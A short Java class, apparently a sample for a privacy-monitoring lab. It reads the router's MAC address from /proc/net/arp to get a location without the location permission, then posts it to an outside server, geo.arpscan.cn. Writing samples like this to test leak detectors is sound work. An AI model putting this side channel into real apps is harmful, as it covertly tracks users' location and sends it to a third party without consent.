package cn.arpscan.router;

import java.io.BufferedReader;
import java.io.FileReader;
import privmon.lab.Lab;
import privmon.lab.Net;

/** Reads the router's MAC from the ARP table (the network's location, without a location API). */
public final class RouterProbe {
    private RouterProbe() {}

    public static void probe() throws Exception {
        String router = null;
        try (BufferedReader in = new BufferedReader(new FileReader("/proc/net/arp"))) {
            in.readLine();  // header
            String line = in.readLine();
            if (line != null) {
                router = line.trim().split("\\s+")[3];
            }
        }
        int status = Net.send("POST", "http://geo.arpscan.cn/wifi", "application/json", "{\"bssid\":\"" + router + "\"}");
        Lab.log("arpscan: sent (" + status + ")");
    }
}
